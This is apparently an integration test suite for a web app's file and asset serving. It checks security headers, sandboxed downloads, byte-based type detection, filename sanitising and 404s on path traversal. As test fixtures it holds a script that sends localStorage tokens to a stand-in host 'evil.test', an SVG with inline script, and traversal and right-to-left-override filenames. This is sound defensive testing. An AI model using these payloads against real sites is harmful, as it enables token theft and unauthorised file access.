import { randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { contentSecurityPolicy } from '@atendo/shared';
import { CreateBucketCommand, PutObjectCommand } from '@aws-sdk/client-s3';
import { DataSource } from 'typeorm';
import { MessageEntity } from '../src/modules/conversations/entities/message.entity.js';
import { TicketEntity } from '../src/modules/conversations/entities/ticket.entity.js';
import { ContactEntity } from '../src/modules/conversations/entities/contact.entity.js';
import { s3Client } from '../src/modules/media/s3-blob-store.js';
import { S3StandIn } from '../src/modules/media/s3-stand-in.js';
import { conversationCompany, inbound, recordOutbound, sinkOf } from './support/conversations.js';
import { startTestApp, type TestApp } from './support/test-app.js';

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);
const PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF');
// An Ogg page whose first packet is an Opus header: a WhatsApp voice note as far as the bytes go.
const OPUS = Buffer.concat([Buffer.from('OggS'), Buffer.alloc(24), Buffer.from('OpusHead'), Buffer.alloc(200, 7)]);
const HTML = Buffer.from('<!doctype html><script>fetch("//evil.test/?t=" + localStorage.token)</script>');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(localStorage.token)</script></svg>');
const SCRIPT = Buffer.from('fetch("//evil.test/?t=" + localStorage.token)');
const TEMPLATE = Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(64, 1)]);

describe('the web app', () => {
  let t: TestApp;
  let webDir: string;
  const app = 'console.log("the app");'.repeat(200);
  const page =
    '<!doctype html><title>Atendo</title><div id="root"></div><script type="module" src="/assets/app-1234.js"></script>';

  beforeAll(async () => {
    webDir = mkdtempSync(join(tmpdir(), 'atendo-web-'));
    mkdirSync(join(webDir, 'assets'));
    // What the build writes: each file and its brotli and gzip copies.
    const built = (path: string, content: string) => {
      writeFileSync(path, content);
      writeFileSync(`${path}.br`, brotliCompressSync(content));
      writeFileSync(`${path}.gz`, gzipSync(content));
    };
    built(join(webDir, 'index.html'), page);
    built(join(webDir, 'assets', 'app-1234.js'), app);
    writeFileSync(join(webDir, 'modelo-contatos.xlsx'), TEMPLATE);
    writeFileSync(join(webDir, 'notes.txt'), 'not a download');
    t = await startTestApp({ WEB_DIR: webDir });
  });
  afterAll(async () => {
    await t.close();
    rmSync(webDir, { recursive: true, force: true });
  });

  const get = (path: string, headers: Record<string, string>) => fetch(`${t.url}${path}`, { headers });

  it('sends the page with a strict CSP that runs no inline script and forbids framing', async () => {
    const res = await get('/tickets', { accept: 'text/html' });
    expect(res.status).toBe(200);
    const csp = res.headers.get('content-security-policy')!;
    expect(csp).toBe(contentSecurityPolicy());
    const directives = new Map(csp.split('; ').map((d) => [d.split(' ')[0], d.split(' ').slice(1)]));
    expect(directives.get('script-src')).toEqual(["'self'"]);
    expect(directives.get('default-src')).toEqual(["'self'"]);
    expect(directives.get('object-src')).toEqual(["'none'"]);
    expect(directives.get('frame-ancestors')).toEqual(["'none'"]);
    expect(directives.get('frame-src')).toEqual(['https://www.youtube-nocookie.com']);
    expect(res.headers.get('x-frame-options')).toBe('DENY');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('serves the spreadsheets the build puts at the root as downloads, to a link a browser follows too', async () => {
    for (const accept of ['text/html,application/xhtml+xml', '*/*']) {
      const res = await get('/modelo-contatos.xlsx', { accept });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
      expect(res.headers.get('content-disposition')).toBe('attachment; filename="modelo-contatos.xlsx"');
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(Buffer.from(await res.arrayBuffer())).toEqual(TEMPLATE);
    }
    // Other files at the root are not served: a browser gets the app, anyone else a 404.
    expect(await (await get('/notes.txt', { accept: 'text/html' })).text()).toBe(page);
    expect((await get('/notes.txt', { accept: '*/*' })).status).toBe(404);
  });

  it('sends the page and the assets precompressed: brotli first, then gzip, else as they are', async () => {
    for (const path of ['/login', '/assets/app-1234.js']) {
      const accept = path === '/login' ? 'text/html' : '*/*';
      const br = await get(path, { accept, 'accept-encoding': 'gzip, deflate, br' });
      expect(br.headers.get('content-encoding')).toBe('br');
      expect(br.headers.get('vary')).toMatch(/accept-encoding/i);
      // fetch decodes the body: what arrives is the file itself.
      expect(await br.text()).toBe(path === '/login' ? page : app);
      const gzip = await get(path, { accept, 'accept-encoding': 'gzip' });
      expect(gzip.headers.get('content-encoding')).toBe('gzip');
      expect(await gzip.text()).toBe(path === '/login' ? page : app);
      const plain = await get(path, { accept, 'accept-encoding': 'identity' });
      expect(plain.headers.get('content-encoding')).toBeNull();
      expect(await plain.text()).toBe(path === '/login' ? page : app);
    }
    const asset = await get('/assets/app-1234.js', { 'accept-encoding': 'br' });
    expect(asset.headers.get('content-type')).toMatch(/^text\/javascript|^application\/javascript/);
    expect(asset.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    expect(Number(asset.headers.get('content-length'))).toBeLessThan(app.length / 10);
  });
});

// Object storage through S3's API, answered by the stand-in (see README: which S3 is which).
const S3_KEYS = { accessKeyId: 'web-app-spec', secretAccessKey: randomBytes(16).toString('hex') };
let s3: S3StandIn;
let s3Endpoint: string;
beforeAll(async () => {
  s3 = new S3StandIn(S3_KEYS);
  s3Endpoint = await s3.listen();
});
afterAll(() => s3.close());

describe.each(['local', 's3'] as const)('uploaded and received files under /public (%s storage)', (storage) => {
  let t: TestApp;
  let co: Awaited<ReturnType<typeof conversationCompany>>;
  let db: DataSource;
  let customers = 0;
  const bucket = `web-app-${randomBytes(4).toString('hex')}`;
  const s3Config = () => ({ endpoint: s3Endpoint, bucket, region: 'us-east-1', ...S3_KEYS });

  beforeAll(async () => {
    if (storage === 's3') await s3Client(s3Config()).send(new CreateBucketCommand({ Bucket: bucket }));
    t = await startTestApp(storage === 's3' ? s3Env() : {});
    recordOutbound(t);
    db = t.app.get(DataSource);
    co = await conversationCompany(t, 'Media');
  }, 60_000);
  afterAll(() => t.close());

  const s3Env = () => ({
    STORAGE: 's3',
    S3_ENDPOINT: s3Endpoint,
    S3_BUCKET: bucket,
    S3_ACCESS_KEY_ID: S3_KEYS.accessKeyId,
    S3_SECRET_ACCESS_KEY: S3_KEYS.secretAccessKey,
  });

  /** Puts a file where the store keeps them, as an older installation or a migration left it. */
  async function place(path: string, data: Buffer | string) {
    if (storage === 'local') {
      mkdirSync(dirname(join(t.config.dataDir, path)), { recursive: true });
      writeFileSync(join(t.config.dataDir, path), data);
    } else await s3Client(s3Config()).send(new PutObjectCommand({ Bucket: bucket, Key: path, Body: data }));
  }

  /** A customer's message with a file, as the gateway hands it over; answers its stored URL. */
  async function received(filename: string | undefined, mimetype: string, data: Buffer): Promise<string> {
    customers += 1;
    const number = `55119300${String(customers).padStart(5, '0')}`;
    await sinkOf(t).message(
      inbound(co.companyId, co.salesLine, { number }, filename ?? '', {
        mediaType: 'application',
        media: { mimetype, filename, load: async () => data },
      }),
    );
    const contact = await db.getRepository(ContactEntity).findOneByOrFail({ companyId: co.companyId, number });
    const message = await db.getRepository(MessageEntity).findOneByOrFail({ contactId: contact.id });
    return message.mediaUrl!;
  }

  /** An agent's upload to a ticket of theirs; answers the stored URLs. */
  async function uploaded(files: { name: string; type: string; data: Buffer }[]): Promise<string[]> {
    customers += 1;
    const number = `55119400${String(customers).padStart(5, '0')}`;
    await sinkOf(t).message(inbound(co.companyId, co.salesLine, { number }, 'send it'));
    const contact = await db.getRepository(ContactEntity).findOneByOrFail({ companyId: co.companyId, number });
    const ticket = await db.getRepository(TicketEntity).findOneByOrFail({ contactId: contact.id });
    await t.request('PUT', `/tickets/${ticket.id}`, { token: co.seller.token, body: { status: 'open' } });
    const form = new FormData();
    for (const file of files) form.append('medias', new Blob([file.data], { type: file.type }), file.name);
    const res = await fetch(`${t.url}/messages/${ticket.id}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${co.seller.token}` },
      body: form,
    });
    expect(res.status).toBe(201);
    return ((await res.json()) as { mediaUrl: string }[]).map((m) => m.mediaUrl);
  }

  const fetchFile = (url: string, headers: Record<string, string> = {}) => fetch(`${t.url}${url}`, { headers });

  function expectDownload(res: Response, filename: string) {
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/octet-stream');
    // A token needs no quotes (RFC 6266).
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename=${filename}`);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-security-policy')).toMatch(/^default-src 'none';.*; sandbox$/);
  }

  it("answers a customer's boleto.html and an agent's .svg and .js as sandboxed downloads", async () => {
    const boleto = await received('boleto.html', 'text/html', HTML);
    expect(boleto).toMatch(new RegExp(`^/public/company${co.companyId}/[0-9a-f]{24}/boleto\\.html$`));
    expectDownload(await fetchFile(boleto, { accept: 'text/html' }), 'boleto.html');
    expect(await (await fetchFile(boleto)).text()).toBe(HTML.toString());

    const [svg, js] = await uploaded([
      { name: 'logo.svg', type: 'image/svg+xml', data: SVG },
      { name: 'app.js', type: 'text/javascript', data: SCRIPT },
    ]);
    expectDownload(await fetchFile(svg), 'logo.svg');
    expectDownload(await fetchFile(js), 'app.js');
  });

  it('decides by the bytes, not by the name or the declared type', async () => {
    const png = await received('x.html', 'text/html', PNG);
    const image = await fetchFile(png);
    expect(image.status).toBe(200);
    expect(image.headers.get('content-type')).toBe('image/png');
    expect(image.headers.get('content-disposition')).toBe('inline; filename=x.html');
    expect(image.headers.get('x-content-type-options')).toBe('nosniff');
    expect(image.headers.get('content-security-policy')).toMatch(/; sandbox$/);
    expect(Buffer.from(await image.arrayBuffer())).toEqual(PNG);

    expectDownload(await fetchFile(await received('x.png', 'image/png', SCRIPT)), 'x.png');
    // Without a name the file is named by what its bytes are.
    const unnamed = await received(undefined, 'image/png', HTML);
    expect(unnamed).toMatch(/\/[0-9a-f]{24}\.bin$/);
    expectDownload(await fetchFile(unnamed), unnamed.split('/').pop()!);
  });

  it('shows images, audio, video and PDF inline, each under a policy that runs no script', async () => {
    const [photo, voice, pdf] = await uploaded([
      { name: 'photo.png', type: 'image/png', data: PNG },
      { name: 'voice.ogg', type: 'audio/ogg', data: OPUS },
      { name: 'pedido 123.pdf', type: 'application/pdf', data: PDF },
    ]);
    const image = await fetchFile(photo);
    expect(image.headers.get('content-type')).toBe('image/png');
    expect(image.headers.get('content-security-policy')).toBe(
      "default-src 'none'; img-src 'self'; style-src 'unsafe-inline'; sandbox",
    );

    const audio = await fetchFile(voice);
    expect(audio.headers.get('content-type')).toBe('audio/ogg; codecs=opus');
    expect(audio.headers.get('content-disposition')).toBe('inline; filename=voice.ogg');
    // The browser's own player loads the file again, so it keeps the origin; scripts stay off.
    expect(audio.headers.get('content-security-policy')).toBe(
      "default-src 'none'; media-src 'self'; style-src 'unsafe-inline'; sandbox allow-same-origin",
    );
    // Players seek with ranges.
    const part = await fetchFile(voice, { range: 'bytes=0-3' });
    expect(part.status).toBe(206);
    expect(part.headers.get('content-range')).toBe(`bytes 0-3/${OPUS.length}`);
    expect(part.headers.get('content-type')).toBe('audio/ogg; codecs=opus');
    expect(await part.text()).toBe('OggS');

    // Chromium will not open its PDF viewer in a sandbox: no sandbox, and nothing else allowed.
    expect(pdf).toMatch(/\/pedido%20123\.pdf$/);
    const document = await fetchFile(pdf);
    expect(document.headers.get('content-type')).toBe('application/pdf');
    expect(document.headers.get('content-disposition')).toBe('inline; filename="pedido 123.pdf"');
    expect(document.headers.get('content-security-policy')).toBe("default-src 'none'; style-src 'unsafe-inline'");
    expect(document.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it("keeps the sender's file name for downloads, made safe to store", async () => {
    const accented = await received('relatório março.docx', 'application/octet-stream', SCRIPT);
    const res = await fetchFile(accented);
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="relat?rio mar?o.docx"; filename*=UTF-8''relat%C3%B3rio%20mar%C3%A7o.docx`,
    );
    // No folders, no right-to-left override disguising the extension, no dotfile.
    const disguised = await received('../../secrets/\u202Efdp.exe', 'application/octet-stream', SCRIPT);
    expect(disguised).toMatch(/\/[0-9a-f]{24}\/_fdp\.exe$/);
    expect((await fetchFile(disguised)).status).toBe(200);
    const dotted = await received('.htaccess', 'text/plain', SCRIPT);
    expect(dotted).toMatch(/\/[0-9a-f]{24}\/htaccess$/);
    // A name too long for a URL column is shortened, its extension kept.
    const long = await received(`${'ã'.repeat(300)}.pdf`, 'application/pdf', PDF);
    expect(long.length).toBeLessThanOrEqual(250);
    expect(long).toMatch(/%C3%A3\.pdf$/);
    expect((await fetchFile(long)).headers.get('content-type')).toBe('application/pdf');
  });

  it('serves the files of older installations by their bytes too, and nothing outside /public', async () => {
    await place('public/1700000000000-boleto.html', HTML);
    await place('public/company999/foto.jpg', PNG);
    expectDownload(await fetchFile('/public/1700000000000-boleto.html'), '1700000000000-boleto.html');
    const legacy = await fetchFile('/public/company999/foto.jpg');
    expect(legacy.headers.get('content-type')).toBe('image/png');

    const head = await fetch(`${t.url}/public/company999/foto.jpg`, { method: 'HEAD' });
    expect(head.status).toBe(200);
    expect(head.headers.get('content-type')).toBe('image/png');
    expect(head.headers.get('content-length')).toBe(String(PNG.length));
    // (fetch would add no-cache to a conditional request)
    const again = await t.request('GET', '/public/company999/foto.jpg', {
      headers: { 'if-none-match': legacy.headers.get('etag')! },
    });
    expect(again.status).toBe(304);

    await place('secrets.json', '{"secret":1}');
    await place('public/.hidden', 'x');
    await place('private/company999/0123456789abcdef01234567.png', PNG);
    for (const path of [
      '/public/../secrets.json',
      '/public/%2e%2e/secrets.json',
      '/public/company999/..%2f..%2fsecrets.json',
      '/public/.hidden',
      '/public/company999',
      '/public/company999/',
      '/public/missing.png',
      '/public/../private/company999/0123456789abcdef01234567.png',
      '/public/..%2fprivate/company999/0123456789abcdef01234567.png',
    ]) {
      const res = await t.request('GET', path);
      expect({ path, status: res.status, error: res.body?.error }).toEqual({
        path,
        status: 404,
        error: 'ERR_NOT_FOUND',
      });
    }
  });

  it('is ready only while its bucket answers', async () => {
    const ready = await t.request('GET', '/health/ready');
    expect(ready).toMatchObject({ status: 200, body: { checks: { storage: storage === 'local' ? 'local' : 'up' } } });
    if (storage === 'local') return;
    const lost = await startTestApp({ ...s3Env(), S3_BUCKET: `${bucket}-gone` }, t);
    try {
      expect(await lost.request('GET', '/health/ready')).toMatchObject({
        status: 503,
        body: { checks: { storage: 'down' }, failed: ['storage'] },
      });
    } finally {
      await lost.close();
    }
  });

  it('serves a file kept through one node from another, with the same bytes and headers', async () => {
    const second = await startTestApp(storage === 's3' ? s3Env() : {}, t);
    try {
      const [photo] = await uploaded([{ name: 'vitrine.png', type: 'image/png', data: PNG }]);
      const here = await fetchFile(photo);
      const there = await fetch(`${second.url}${photo}`);
      expect(Buffer.from(await there.arrayBuffer()).equals(PNG)).toBe(true);
      const headers = (res: Response) =>
        Object.fromEntries(
          [
            'content-type',
            'content-disposition',
            'content-security-policy',
            'x-content-type-options',
            'etag',
            'content-length',
          ].map((name) => [name, res.headers.get(name)]),
        );
      expect(headers(there)).toEqual(headers(here));
      // With object storage no node's disk holds it.
      expect(existsSync(join(t.config.dataDir, decodeURIComponent(photo)))).toBe(storage === 'local');
    } finally {
      await second.close();
    }
  });
});
